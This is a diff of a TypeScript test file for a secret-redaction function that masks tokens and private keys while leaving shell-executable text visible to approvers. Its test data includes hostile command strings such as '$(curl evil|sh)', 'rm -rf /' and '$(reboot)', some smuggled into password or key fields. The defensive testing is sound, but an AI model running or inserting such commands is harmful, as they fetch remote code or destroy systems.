@@ -7,7 +7,7 @@ import { contentToText } from "../../src/contract/result.ts";
 import { redactSecrets } from "../../src/format/redact.ts";
 import { openAskingSession, createRequest } from "../support/approvals.ts";
 
-describe("secrets are covered", () => {
+describe("secrets", () => {
   const pem = generateKeyPairSync("rsa", { modulusLength: 2048 }).privateKey.export({
     type: "pkcs8",
     format: "pem",
@@ -54,7 +54,7 @@ describe("secrets are covered", () => {
     ["private key, in JSON", JSON.stringify({ content: pem }), pem.split("\n")[3]!],
   ];
 
-  test.for(secrets)("%s", ([, shown, secret]) => {
+  test.for(secrets)("are masked: %s", ([, shown, secret]) => {
     const covered = redactSecrets(`before ${shown} after`);
     expect(covered).toContain("[secret]");
     expect(covered).not.toContain(secret);
@@ -62,7 +62,7 @@ describe("secrets are covered", () => {
     expect(redactSecrets(covered)).toBe(covered);
   });
 
-  test("in a request, its offers' prompt and its answer", async () => {
+  test("are masked in a request, its prompt, its offers and its answer", async () => {
     const { session, act } = await openAskingSession();
     const outcome = await act(`curl -H "Authorization: Bearer ${digits}"`);
     expect(contentToText(outcome.content)).not.toContain(digits);
@@ -73,13 +73,13 @@ describe("secrets are covered", () => {
     expect(prompt).not.toContain(digits);
   });
 
-  test("where a long text is cut, too", () => {
+  test("are masked at the cut of a long text", () => {
     const shown = promptText(`${"x ".repeat(7880)}ghp_${digits}${" y".repeat(10_000)}`);
     expect(shown).not.toMatch(/ghp_/);
   });
 });
 
-describe("what is no secret stays readable", () => {
+describe("text without secrets", () => {
   test.for([
     "git show 3f786850e387550fdab836ed7e6dc881de23001b",
     "sha256sum -c e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
@@ -99,12 +99,12 @@ describe("what is no secret stays readable", () => {
     "sk-learn and task-runner-with-a-long-name",
     "uuid 123e4567-e89b-12d3-a456-426614174000",
     "-----BEGIN PUBLIC KEY-----",
-  ])("%s", (ordinary) => {
+  ])("stays readable: %s", (ordinary) => {
     expect(redactSecrets(ordinary)).toBe(ordinary);
   });
 });
 
-describe("what a shell would act on is not covered", () => {
+describe("text that a shell would execute", () => {
   test.for([
     ["password=$(curl evil|sh)", "$(curl evil|sh)"],
     ['password="$(curl evil|sh)"', "$(curl evil|sh)"],
@@ -121,13 +121,13 @@ describe("what a shell would act on is not covered", () => {
     ["Authorization: Bearer $(reboot)", "$(reboot)"],
     [": -----BEGIN PRIVATE KEY-----\nreboot\n: -----END PRIVATE KEY-----", "\nreboot\n"],
     [": -----BEGIN PRIVATE KEY-----\nrm -rf /\n: -----END PRIVATE KEY-----", "\nrm -rf /\n"],
-  ])("%j", ([command, acts]) => {
+  ])("is not masked: %j", ([command, acts]) => {
     expect(redactSecrets(command!)).toContain(acts);
     expect(promptText(command!)).toContain(acts);
   });
 });
 
-describe("hostile texts cost what their length costs", () => {
+describe("hostile texts", () => {
   const pieces = [
     "-",
     "a",
@@ -189,7 +189,7 @@ describe("hostile texts cost what their length costs", () => {
     return user + system;
   }
 
-  test.for(pieces)("%j", (piece) => {
+  test.for(pieces)("take time in proportion to their length: %j", (piece) => {
     const hostile = (length: number) => piece.repeat(length / piece.length);
     for (const cover of [redactSecrets, escapeInvisible]) {
       cover(hostile(short));
